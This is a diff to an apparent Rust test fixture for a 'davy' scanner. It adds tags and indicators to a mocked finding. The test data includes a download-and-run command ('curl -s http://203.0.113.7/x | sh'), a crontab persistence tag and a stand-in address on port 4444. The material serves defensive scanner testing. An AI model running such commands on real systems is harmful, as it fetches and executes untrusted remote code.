@@ -7,7 +7,10 @@ use davy_artifact::{
 use davy_bytes::{Blame, Span, escape};
 use davy_policy::{Policy, judge};
 use davy_report::{Detail, Report};
-use davy_rules::{Advice, Confidence, Finding, Rule, Severity, Threat, advisories};
+use davy_rules::{
+    Advice, Confidence, Finding, Indicates, Indicator, Rule, Severity, Tag, Tagged, Threat,
+    advisories,
+};
 use davy_scan::{Fingerprinted, Scan, Scanned};
 
 /// A name that clears a screen, turns text around, breaks lines, closes tags and starts links.
@@ -91,6 +94,13 @@ fn checkpoint() -> Scanned {
     findings.push(finding(&CALL, &pickle, Span::new(12, 9), opcode(7)));
     findings[0].finding.unassumed = Some(Severity::High);
     findings[1].finding.advisories = advice();
+    findings[1].finding.tags = vec![
+        Tagged { tag: Tag::DownloadAndRun, text: "curl -s http://203.0.113.7/x | sh".into() },
+        Tagged { tag: Tag::Persistence, text: escape(&format!("crontab {HOSTILE}")) },
+    ];
+    let url = Indicator { kind: Indicates::Url, value: "http://203.0.113.7/x".into() };
+    let address = Indicator { kind: Indicates::Address, value: "192.0.2.9:4444".into() };
+    findings[1].finding.indicators = vec![url, address];
     findings.extend((0..1_244).map(|at| {
         let mut finding = finding(&CALL, &hostile, Span::new(at, 1), Route::Member(HOSTILE.into()));
         finding.finding.severity = Severity::High;
